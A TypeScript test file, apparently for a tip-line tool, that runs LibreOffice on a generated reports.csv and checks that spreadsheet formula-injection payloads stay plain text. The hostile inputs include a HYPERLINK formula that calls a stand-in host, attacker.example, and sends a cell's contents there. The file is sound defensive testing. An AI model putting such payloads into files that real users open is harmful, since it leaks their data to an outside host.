// reports.csv opened by real LibreOffice (docs/THREAT-MODEL.md, T40): a decrypted folder whose
// tip carries texts made to become formulas (split at `;` or a tab, full-width signs, leading
// blanks, quotes), `npm run report`'s writer, then `soffice --headless --convert-to fods` with
// an import filter that splits at comma, semicolon AND tab and evaluates formulas, in a fresh
// profile. No cell of the result may be a formula, and every hostile text must survive whole,
// as text, in one cell. Fails (never skips) without soffice: .ci/run installs it.
import t from 'tap';
import { spawn, spawnSync } from 'node:child_process';
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { tempDir } from '../helpers/fixtures.js';
import { writeReport } from '../../src/offline/report.js';

// LibreOffice is slow to start on a busy machine.
t.setTimeout(900_000);

const HOSTILE = [
  'a;=1+1',
  'b\t=2+3',
  'c,=3+4',
  '=HYPERLINK("http://attacker.example/?"&A1;"open")',
  '+5+6',
  '-7+8',
  '@SUM(9;10)',
  '\uff1d11+12',
  '\uff0b13',
  '\uff0d14',
  '\uff2015',
  '\t=16+17',
  ' =18+19',
  '\u3000=20+21',
  'd";=22+23',
  'e\n=24+25',
  'f;"=26+27";g',
];

/** Each cell's text in a flat ODF spreadsheet (spaces, tabs and line breaks restored), and whether any holds a formula. */
function fodsCells(xml: string): { cells: string[]; formulas: string[] } {
  const formulas = [...xml.matchAll(/table:formula="([^"]*)"/g)].map((m) => m[1]!);
  const cells: string[] = [];
  for (const m of xml.matchAll(/<table:table-cell\b[^>]*?(?:\/>|>([\s\S]*?)<\/table:table-cell>)/g)) {
    const inner = m[1] ?? '';
    const paragraphs = [...inner.matchAll(/<text:p>([\s\S]*?)<\/text:p>|<text:p\/>/g)].map((p) =>
      (p[1] ?? '')
        .replace(/<text:s text:c="(\d+)"\/>/g, (_, n: string) => ' '.repeat(Number(n)))
        .replace(/<text:s\/>/g, ' ')
        .replace(/<text:tab\/>/g, '\t')
        .replace(/<text:line-break\/>/g, '\n')
        .replace(/<[^>]+>/g, '')
        .replace(/&lt;/g, '<')
        .replace(/&gt;/g, '>')
        .replace(/&quot;/g, '"')
        .replace(/&apos;/g, "'")
        .replace(/&amp;/g, '&'),
    );
    cells.push(paragraphs.join('\n'));
  }
  return { cells, formulas };
}

function run(cmd: string, args: string[]): Promise<{ code: number | null; out: string }> {
  return new Promise((resolve, reject) => {
    const child = spawn(cmd, args, { stdio: ['ignore', 'pipe', 'pipe'] });
    let out = '';
    child.stdout.on('data', (d) => (out += d));
    child.stderr.on('data', (d) => (out += d));
    child.on('error', reject);
    child.on('close', (code) => resolve({ code, out }));
  });
}

t.test('reports.csv opened by LibreOffice with , ; and tab as separators: no formula, every text whole', { timeout: 900_000 }, async (t) => {
  const probe = spawnSync('soffice', ['--version'], { encoding: 'utf8' });
  if (probe.error || probe.status !== 0) {
    t.fail('soffice (LibreOffice) is missing: install libreoffice-calc-nogui (.ci/run does)');
    return;
  }
  const work = tempDir(t, 'tipline-csv-lo-');
  // A decrypted folder as decrypt writes it: <date>_<id>/tip.json.
  const inDir = join(work, 'decrypted');
  const folder = `2025-03-09_${'ab'.repeat(16)}`;
  mkdirSync(join(inDir, folder), { recursive: true });
  const fields = Object.fromEntries(HOSTILE.map((text, i) => [`x${String(i).padStart(2, '0')}`, text]));
  const body = { v: 1, message: 'x;=HYPERLINK("http://attacker.example";"m")', clientTime: '2025-03-09T20:00:00.000Z', fields };
  writeFileSync(join(inDir, folder, 'tip.json'), JSON.stringify({ id: 'ab'.repeat(16), received: '2025-03-09', receipt: 'AAAA-BBBB-CCCC-DDDD', kind: 'tip', body }));
  writeFileSync(join(inDir, 'verification.tsv'), `${folder}\tverified\tnote;=1+2\n`);
  const outDir = join(work, 'report');
  writeReport({ inDir, outDir });

  // Separators , ; tab (44/59/9), text delimiter ", UTF-8 (76), from line 1, standard columns,
  // en-US, quoted fields NOT forced to text, special numbers detected, formulas evaluated: the
  // most trusting import a newsroom's LibreOffice could be set to.
  const filter = 'CSV:44/59/9,34,76,1,,1033,false,true,false,false,false,-1,true';
  const converted = join(work, 'converted');
  const { code, out } = await run('soffice', [`-env:UserInstallation=file://${join(work, 'lo-profile')}`, '--headless', '--norestore', `--infilter=${filter}`, '--convert-to', 'fods', '--outdir', converted, join(outDir, 'reports.csv')]);
  t.equal(code, 0, out);
  const xml = readFileSync(join(converted, 'reports.fods'), 'utf8');
  const { cells, formulas } = fodsCells(xml);
  t.same(formulas, [], 'no cell is a formula');
  for (const text of [...HOSTILE, body.message, 'note;=1+2']) {
    const expected = /^[\t\r]|^\s*[=+\-@\uff1d\uff0b\uff0d\uff20]/.test(text) ? `'${text}` : text;
    t.ok(cells.includes(expected), `${JSON.stringify(text)} is one text cell (${JSON.stringify(expected)})`);
  }
});
